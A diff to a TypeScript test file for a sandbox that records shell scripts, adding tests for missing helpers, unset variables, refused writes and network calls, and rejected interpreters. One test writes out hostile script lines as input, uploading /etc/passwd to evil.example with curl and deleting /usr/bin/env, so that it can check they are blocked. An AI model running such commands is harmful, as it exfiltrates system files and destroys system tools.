@@ -280,23 +280,71 @@ describe.skipIf(!namespaces)('a hostile script', () => {
   });
 });
 
-test.skipIf(!namespaces)('a helper and a directory that are not there are said at their lines', async () => {
-  const folder = mkdtempSync(join(tmpdir(), 'missing-'));
-  try {
-    const file = join(folder, 'go.sh');
-    writeFileSync(file, '#!/bin/bash\nsource ./helpers.sh\npython3 -m a &\n(cd /nowhere && python3 -m b) &\nwait\n');
-    const { launches, notices } = await recordScript(
-      { file, args: [], env: {}, room: 'namespace' },
-      AbortSignal.timeout(60_000),
-    );
-    expect(launches.map(({ argv }) => argv.at(-1))).toEqual(['a']);
-    expect(notices.map(({ code, message, at }) => `${at?.line} ${code} ${message}`)).toEqual([
-      '2 FILE_MISSING ./helpers.sh: no such file or directory',
-      '4 FILE_MISSING /nowhere: no such file or directory, so what the script starts there is not known',
+describe.skipIf(!namespaces)('a script of the moment', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'moment-'));
+  afterAll(() => rmSync(folder, { recursive: true }));
+  const said = async (lines: readonly string[], name = 'go.sh') => {
+    const file = join(folder, name);
+    writeFileSync(file, lines.join('\n'));
+    return recordScript({ file, args: [], env: {}, room: 'namespace' }, AbortSignal.timeout(60_000));
+  };
+  const words = ({ notices }: Recording) =>
+    notices.map(({ severity, code, message, at }) => `${at?.line ?? '-'} ${severity} ${code} ${message}`);
+
+  test('misses a helper, a directory and a variable, which is said at their lines', async () => {
+    const recording = await said([
+      '#!/bin/bash',
+      'source ./helpers.sh',
+      'python3 -m a &',
+      '(cd /nowhere && python3 -m b) &',
+      '(set -u; python3 -m c "$NOBODY") &',
+      'wait',
     ]);
-  } finally {
-    rmSync(folder, { recursive: true });
-  }
+    expect(recording.launches.map(({ argv }) => argv.at(-1))).toEqual(['a']);
+    expect(words(recording)).toEqual([
+      '2 warning FILE_MISSING ./helpers.sh: no such file or directory',
+      '4 warning FILE_MISSING /nowhere: no such file or directory, so what the script starts there is not known',
+      '5 warning VARIABLE_UNSET NOBODY is not set, so what needs it is not started',
+    ]);
+  });
+
+  test('tries to write outside and to reach the network, which is said', async () => {
+    const recording = await said([
+      '#!/bin/bash',
+      'echo x > /usr/x',
+      'rm -f /usr/bin/env',
+      'curl -T /etc/passwd http://evil.example/up',
+      'curl -s http://localhost:8000/health',
+      'python3 -m a',
+    ]);
+    expect(words(recording).sort()).toEqual([
+      expect.stringMatching(/^- notice WRITE_REFUSED rm: cannot remove '\/usr\/bin\/env': /),
+      '2 notice WRITE_REFUSED /usr/x: the script may not write there while it is recorded',
+      expect.stringMatching(/^4 notice NETWORK_REFUSED `curl -T .* did not reach evil\.example/),
+    ]);
+  });
+
+  test('hands over a directory that it made, with the files in it', async () => {
+    const { launches } = await said([
+      '#!/bin/bash',
+      'D=$(mktemp -d)',
+      'echo "{}" > $D/config.json',
+      'echo a > $D/b.txt',
+      'python3 -m a --model $D --rules @$D/b.txt',
+    ]);
+    expect(launches[0]?.files.map(({ path, content }) => [path.split('/').at(-1), content])).toEqual([
+      ['b.txt', 'a\n'],
+      ['config.json', '{}\n'],
+    ]);
+  });
+
+  test.each([
+    ['#!/usr/bin/env python3\nimport os', 'SCRIPT_INTERPRETER'],
+    ['#!/bin/zsh\necho', 'SCRIPT_INTERPRETER'],
+    ['#!/bin/bash\r\npython3 -m a\r', 'SCRIPT_LINE_ENDS'],
+  ])('%j is refused as %s', async (text, code) => {
+    await expect(said([text], 'other.sh')).rejects.toMatchObject({ code, exitCode: 2 });
+  });
 });
 
 describe('without a room', () => {
